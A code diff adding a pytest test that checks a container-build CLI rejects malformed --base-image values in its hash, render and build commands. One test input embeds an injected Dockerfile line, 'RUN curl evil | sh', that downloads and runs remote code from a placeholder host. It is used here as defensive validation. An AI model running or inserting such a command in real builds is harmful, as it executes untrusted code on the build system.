@@ -57,3 +57,18 @@ def test_fifty_megabyte_requirements_is_refused_quickly(tmp_path: Path) -> None:
 def test_unknown_strategy_names_the_input(tmp_path: Path) -> None:
     result = run_cli("hash", str(tmp_path), "--env-strategy", "docker")
     assert result.returncode == 2 and "env-strategy" in result.stderr
+
+
+@pytest.mark.parametrize("base", ["python:3.11\nRUN curl evil | sh", "Python:3.11",
+                                  "reg.example/x y", "python:3.11 AS x"])
+def test_base_image_must_be_an_image_reference(tmp_path: Path, base: str) -> None:
+    """hash, render and build: one line naming base_image, exit 2, nothing written."""
+    codeset = write_codeset(tmp_path / "cs", {"MLproject": MAIN, "requirements.txt": "numpy\n"})
+    for args in (["hash", str(codeset)], ["render", str(codeset), "-o", str(tmp_path / "o")],
+                 ["build", str(codeset), "--registry", "127.0.0.1:9"]):
+        result = run_cli(*args, "--base-image", base)
+        assert result.returncode == 2 and result.stdout == "", result.stderr
+        lines = result.stderr.strip().splitlines()
+        assert len(lines) == 1 and "base_image" in lines[0]
+        assert "not an image reference" in lines[0]
+    assert not (tmp_path / "o").exists()
